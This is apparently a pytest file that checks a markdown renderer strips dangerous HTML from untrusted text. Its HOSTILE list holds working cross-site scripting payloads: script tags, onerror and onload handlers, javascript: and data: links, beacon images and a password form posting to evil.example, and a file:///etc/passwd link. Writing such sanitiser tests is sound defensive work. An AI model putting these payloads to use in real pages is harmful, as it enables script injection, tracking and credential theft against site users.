"""Untrusted text becomes HTML that can do nothing."""

from html.parser import HTMLParser

import pytest

from ui.markdown import escaped, markdown_html, without_citations

HARMLESS = {
    *("p", "strong", "em", "ul", "ol", "li", "code", "pre", "blockquote", "h4", "a", "br", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td", "small"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png>",
    "![beacon](http://evil.example/x.png)",
    "![beacon][ref]\n\n[ref]: http://evil.example/x.png",
    "[![inside a link](http://evil.example/x.png)](http://evil.example)",
    "text ``` <img src=http://evil.example/x.png>",
    "`<img src=x onerror=alert(1)>`",
    "```\n<img src=x>\n",
    "<div style='position:fixed;inset:0'>overlay</div>",
    "<form action=http://evil.example><input name=password></form>",
    "<iframe src=http://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](http://evil.example \"a' onclick='alert(1)\")",
    "<a href='x' onclick='alert(1)'>x</a>",
    "| a |\n|---|\n| <img src=x> |",
    "&#60;img src=http://evil.example/x.png&#62; &lt;script&gt;",
    "[click](javascript&#58;alert(1)) [click](&#106;avascript:alert(1)) [click](java\nscript:alert(1))",
    "[click](data:image/svg+xml;base64,AAAA) [click](data:image/png;base64,AAAA)",
    "[click](search-ms:query=a) [click](file:///etc/passwd) <ms-word:ofe|u|http://evil.example/a.docx>",
    "[click](/logout) [click](?comparison=1) [click](//evil.example/a) [click][ref]\n\n[ref]: vbscript:a",
    '<http://evil.example/?q="onmouseover=alert(1)>',
    '[a]: http://evil.example/x.png "<img src=x>"\n\n![][a] [a] ![a]',
]


class Tags(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_leaves_only_harmless_tags_and_attributes(text: str) -> None:
    for tag, attributes in Tags(markdown_html(text)).found:
        assert tag in HARMLESS, (tag, attributes)
        assert set(attributes) <= {"href", "target", "rel", "title", "class", "start", "style"}, attributes
        assert attributes.get("style", "text-align:left") in ("text-align:left", "text-align:right")
        assert (attributes.get("href") or "https:").startswith(("https:", "http:", "mailto:"))


def test_markdown_is_rendered_and_its_text_kept() -> None:
    markup = markdown_html("The **11 watts** of `mode`:\n\n- one\n- two\n\n```\nx < 1\n```")
    assert "<strong>11 watts</strong>" in markup
    assert "<li>one</li>" in markup
    assert "x < 1" in Tags(markup).text


def test_hostile_markup_stays_readable_as_text() -> None:
    assert "<img src=x>" in Tags(markdown_html("see <img src=x> here")).text


def test_no_brace_reaches_the_template_engine_and_none_is_lost() -> None:
    for markup in (markdown_html("{{value}} ${1+1} `{{x}}`"), escaped("{{value}} ${1+1}")):
        assert "{" not in markup and "}" not in markup
        assert "{{value}} ${1+1}" in Tags(markup).text


def test_links_tell_the_other_side_nothing() -> None:
    (link,) = [attributes for tag, attributes in Tags(markdown_html("[a](https://a.example)")).found if tag == "a"]
    assert link["rel"] == "noopener noreferrer nofollow" and link["target"] == "_blank"


def test_a_link_says_where_it_leads_unless_it_is_called_that() -> None:
    shown = Tags(markdown_html("[the manual](https://evil.example/?q=data)")).text.strip()
    assert shown == "the manual (https://evil.example/?q=data)"
    assert Tags(markdown_html("[https://a.example](https://b.example)")).text.strip().endswith("(https://b.example)")
    for text in ("<https://a.example/b>", "[a.example/b](https://a.example/b)", "<ann@a.example>"):
        assert "(" not in Tags(markdown_html(text)).text


@pytest.mark.parametrize("text", ["🌱💧", "كم واط يستهلك الجهاز؟", "כמה וואט?", "e\u0301 \u202eevil\u202c"])
def test_every_script_survives(text: str) -> None:
    assert text in Tags(markdown_html(text)).text
    assert text in Tags(escaped(text)).text


def test_headings_in_answers_do_not_compete_with_the_page() -> None:
    assert markdown_html("# Big") == "<h4>Big</h4>\n"


@pytest.mark.parametrize(
    ("text", "left"),
    [("11 watts [1].", "11 watts."), ("a [1, 2] b [3][4]", "a b"), ("[see] a[i]", "[see] a[i]"), ("x [1-3]", "x")],
)
def test_citations_are_taken_out(text: str, left: str) -> None:
    assert without_citations(text) == left
